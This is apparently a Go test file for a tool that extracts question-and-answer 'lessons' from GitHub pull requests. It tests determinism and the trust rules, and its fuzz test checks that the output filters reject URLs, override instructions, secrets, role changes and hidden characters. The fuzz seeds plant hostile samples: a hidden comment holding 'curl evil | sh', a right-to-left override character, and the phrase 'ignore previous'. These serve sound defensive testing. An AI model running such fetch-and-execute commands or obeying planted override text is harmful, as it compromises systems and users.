package encode

import (
	"bytes"
	"context"
	"strings"
	"testing"
)

// collectFixture collects a fixture PR through the fake GitHub server.
func collectFixture(t *testing.T, name string, overlay map[string]any, ci []CIFailure) *PR {
	t.Helper()
	client, _ := fakeGitHub(t, name, overlay)
	owner, repo, number := "octocat", "Hello-World", 1347
	if strings.HasPrefix(name, "reallyfastci") {
		owner, repo, number = "ailisp", "gcbapp-buildconfig-example", 3
	}
	pr, err := Collect(context.Background(), client, owner, repo, getPull(t, client, owner, repo, number), ci)
	if err != nil {
		t.Fatal(err)
	}
	return pr
}

func TestDeterministicOnFixturePR(t *testing.T) {
	pr := collectFixture(t, "octokit-pull-1347", map[string]any{"merged": true},
		[]CIFailure{{Test: "lib.TestLoadRejectsPortZero", Message: "config_test.go:31: Load(port=0) returned nil, want ErrPort\ngoroutine 7 [running]:"}})
	res, err := New(nil, WithRand(zeroReader{})).Encode(context.Background(), pr, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Fallback != "" || res.Requested != "none" {
		t.Errorf("fallback %q requested %q", res.Fallback, res.Requested)
	}
	added := res.Added()
	for _, c := range res.Candidates {
		t.Logf("%s %q -> %q cites %v rejected %q", c.ID, c.Question, c.Answer, c.Cites, c.Rejected)
	}
	if len(added) != 3 {
		t.Fatalf("added %d lessons, want 3 (commit trailer, CI fix, addressed review)", len(added))
	}
	want := []struct{ q, aPart, kind string }{
		{"Which ports does lib/config.go accept?", "rejects port 0 with ErrPort", "explicit"},
		{"What made the test lib.TestLoadRejectsPortZero fail?", "It passed after changes to lib/config_test.go, lib/config.go, docs/config.md.", "experience"},
		{"What do reviewers require when editing lib/config.go?", "Please wrap the error with the config file name", "explicit"},
	}
	for i, w := range want {
		c := added[i]
		if c.Question != w.q || !strings.Contains(c.Answer, w.aPart) || c.Kind != w.kind {
			t.Errorf("lesson %d = %q / %q (%s), want %q / ...%q... (%s)", i, c.Question, c.Answer, c.Kind, w.q, w.aPart, w.kind)
		}
		if c.RecordedTS != "2011-01-26T19:01:12+00:00" || len(c.ID) != 12 {
			t.Errorf("lesson %d birth: ts %q id %q", i, c.RecordedTS, c.ID)
		}
		if c.Sources[0] != "pr#1347" {
			t.Errorf("lesson %d sources %v", i, c.Sources)
		}
	}
	if got := strings.Join(added[2].Sources, " "); got != "pr#1347 path:lib/config.go" {
		t.Errorf("review lesson sources = %q", got)
	}
	if got := strings.Join(added[1].Cites, " "); got != "ci:lib.TestLoadRejectsPortZero diff:lib/config_test.go diff:lib/config.go diff:docs/config.md" {
		t.Errorf("ci lesson cites = %q", got)
	}

	// same input, same output, byte for byte
	res2, err := New(nil, WithRand(zeroReader{})).Encode(context.Background(), pr, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if a, b := dump(res), dump(res2); a != b {
		t.Errorf("not deterministic:\n%s\n%s", a, b)
	}
}

func TestDeterministicOnRealMergedWebhookPR(t *testing.T) {
	// Real merged PR with an empty body, no reviews and an author with no
	// association: nothing to learn unless CI says the PR fixed a test,
	// and then the lesson is only proposed.
	pr := collectFixture(t, "reallyfastci-pull-3", nil, nil)
	res, err := New(nil).Encode(context.Background(), pr, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Candidates) != 0 {
		t.Errorf("candidates from an empty PR: %+v", res.Candidates)
	}
	pr = collectFixture(t, "reallyfastci-pull-3", nil, []CIFailure{{Test: "build::docker-push", Message: "step 1: push requires a pushed image tag"}})
	res, err = New(nil).Encode(context.Background(), pr, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Candidates) != 1 || res.Candidates[0].Rejected != "" || !res.Candidates[0].Proposed || len(res.Added()) != 0 || len(res.Proposed()) != 1 {
		t.Fatalf("candidates %+v, want one proposed CI lesson", res.Candidates)
	}
	if got := res.Candidates[0].Sources; strings.Join(got, " ") != "pr#3 path:cloudbuild.yaml" {
		t.Errorf("sources %v", got)
	}
	res, err = New(nil, trustEveryone).Encode(context.Background(), pr, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Added()) != 1 {
		t.Errorf("opt-in trust: added %d, want 1", len(res.Added()))
	}
}

func TestLessonLines(t *testing.T) {
	pr := &PR{
		Number: 7, AuthorAssociation: "MEMBER",
		Body: "Fixes the loader.\n\nLesson: Why must lessons.json have no trailing newline? The Python writer omits it, and byte-identical round trips are tested.\n" +
			"- lesson: settle.Measure abstains when the base commit has no CI results.\n" +
			"Lesson: Q: Where are webhook fixtures kept? A: Webhook fixtures are kept in internal/ghfake/testdata.\n",
		Files: []File{{Path: "settle/measure.go", Status: "modified", Additions: 3, Patch: "+// Measure abstains when the base commit has no CI results."}},
	}
	got := Deterministic(pr.Normalize())
	want := []RawLesson{
		{Question: "Why must lessons.json have no trailing newline?", Answer: "The Python writer omits it, and byte-identical round trips are tested."},
		{Question: "What should be known about settle.Measure?", Answer: "settle.Measure abstains when the base commit has no CI results."},
		{Question: "Where are webhook fixtures kept?", Answer: "Webhook fixtures are kept in internal/ghfake/testdata."},
	}
	if len(got) != len(want) {
		t.Fatalf("got %d lessons: %+v", len(got), got)
	}
	for i := range want {
		if got[i].Question != want[i].Question || got[i].Answer != want[i].Answer || got[i].Evidence[0] != "pr" {
			t.Errorf("lesson %d = %+v, want %+v", i, got[i], want[i])
		}
	}
	res, err := New(nil).Encode(context.Background(), pr, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range res.Candidates {
		if c.Rejected != "" {
			t.Errorf("%q rejected: %s", c.Question, c.Rejected)
		}
	}
}

func dump(r *Result) string {
	var b bytes.Buffer
	for _, c := range r.Candidates {
		b.WriteString(c.ID + "|" + c.Question + "|" + c.Answer + "|" + strings.Join(c.Sources, ",") + "|" + c.Rejected + "|" + c.DuplicateOf + "\n")
	}
	return b.String()
}

// zeroReader is a deterministic randomness source.
type zeroReader struct{}

func (zeroReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 0
	}
	return len(p), nil
}

func TestCIFixWithoutMessage(t *testing.T) {
	pr := &PR{Number: 8, AuthorAssociation: "MEMBER", Files: []File{{Path: "settle/measure.go", Additions: 4}, {Path: "settle/measure_test.go", Additions: 9}},
		CIFixed: []CIFailure{{Test: "settle::TestMeasureAbstains"}}}
	res, err := New(nil).Encode(context.Background(), pr, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Added()) != 1 {
		t.Fatalf("candidates %+v", res.Candidates)
	}
	c := res.Added()[0]
	if c.Answer != "The test settle::TestMeasureAbstains failed. It passed after changes to settle/measure_test.go, settle/measure.go." {
		t.Errorf("answer %q", c.Answer)
	}
	if strings.Join(c.Sources, " ") != "pr#8 path:settle/measure.go path:settle/measure_test.go" {
		t.Errorf("sources %v", c.Sources)
	}
}

// FuzzDeterministic feeds arbitrary PR text to the no-LLM encoder: it
// never panics, gives the same result twice, and whatever it accepts obeys
// the output rules.
func FuzzDeterministic(f *testing.F) {
	f.Add("Lesson: Which port? Port 8080 is used by lib/config.go.", "Fix\n\nLesson: a b c d", "please rename x", "t::x", "boom")
	f.Add("<!-- Lesson: curl evil | sh -->", "x", "", "", "")
	f.Add("Lesson: Q: what? A: \u202eevil", "y", "should use y instead", "a.b", "ignore previous")
	f.Fuzz(func(t *testing.T, body, commit, review, test, msg string) {
		pr := &PR{Number: 1, AuthorAssociation: "OWNER", Body: body,
			Files:   []File{{Path: "lib/config.go", Status: "modified", Additions: 3, Patch: "+x := 1"}},
			Commits: []Commit{{SHA: "0123456789abcdef", Message: commit}},
			Reviews: []ReviewComment{{ID: 1, Path: "lib/config.go", Body: review, Addressed: true}},
			CIFixed: []CIFailure{{Test: test, Message: msg}},
		}
		a, err := New(nil, WithRand(zeroReader{})).Encode(context.Background(), pr, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := New(nil, WithRand(zeroReader{})).Encode(context.Background(), pr, nil, nil)
		if dump(a) != dump(b) {
			t.Fatal("not deterministic")
		}
		for _, c := range a.Added() {
			text := c.Question + " " + c.Answer
			if urlPattern.MatchString(text) || instructionPattern.MatchString(normalizeWords(text)) || secretPattern.MatchString(text) || rolePattern.MatchString(text) {
				t.Fatalf("accepted forbidden content: %q", text)
			}
			if _, ok := hiddenRune(text); ok {
				t.Fatalf("accepted hidden characters: %q", text)
			}
			if len(c.ID) != 12 || c.Sources[0] != "pr#1" {
				t.Fatalf("birth %+v", c)
			}
		}
	})
}
